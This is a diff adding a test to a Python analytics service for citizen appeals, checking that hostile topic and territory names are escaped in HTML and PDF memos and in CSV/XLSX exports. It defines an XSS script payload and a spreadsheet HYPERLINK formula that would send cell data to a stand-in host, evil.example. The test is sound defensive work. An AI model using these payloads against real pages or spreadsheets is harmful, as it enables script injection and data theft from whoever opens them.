@@ -246,3 +246,37 @@ def test_exports_for_the_regional_center():
     assert "Ямы,2,0,1,0,1" in csv_text
     only = exports.tables(Analytics(ch, MSK).reports, W47, ["rating"])
     assert only == {"rating": data["rating"]}
+
+
+HOSTILE_TOPIC = '<script>alert("МЦУ")</script><b>Ямы'
+HOSTILE_TERRITORY = '=HYPERLINK("http://evil.example/?"&A1,"Почтовское")'
+
+
+def test_hostile_topic_and_territory_names_are_text_in_the_memo_and_exports():
+    """Topics and territories come from the channels: in the memo they are text, not
+    markup (HTML, reportlab), and a spreadsheet never runs them as a formula."""
+    from openpyxl import load_workbook
+
+    from services.analytics import exports
+    from services.analytics.memo.render import render_html, render_pdf
+
+    ch = chdb.fresh()
+    story = AppealStory()
+    Projector(ch, MSK).project(chdb.records([
+        story.registered(msk(16), topic=HOSTILE_TOPIC, territory=HOSTILE_TERRITORY),
+        story.event("AppealRouted", msk(16, 11), recipient_id="adm-roads"),
+        story.event("DeadlineSet", msk(16, 11), stage="answer", due_at=msk(18, 23).isoformat()),
+        story.event("DeadlineBreached", msk(19), stage="answer")]))
+    analytics = Analytics(ch, MSK)
+    data = analytics.memo_data("2026-W47", now=msk(30, 0))
+    html = render_html(data)
+    assert "<script>" not in html and "<b>Ямы" not in html
+    assert "&lt;script&gt;" in html
+    assert [a["topic"] for a in data["worst_overdue"]] == [HOSTILE_TOPIC]  # in the tables
+    assert render_pdf(data).startswith(b"%PDF")  # unescaped, reportlab's parser would fail
+    tables = exports.tables(analytics.reports, W47)
+    book = load_workbook(io.BytesIO(exports.to_xlsx(tables)))
+    cells = [c for row in book["Территория"].iter_rows() for c in row
+             if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert cells and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)
+    assert "'=HYPERLINK" in exports.to_csv(tables["counts_by_territory"])
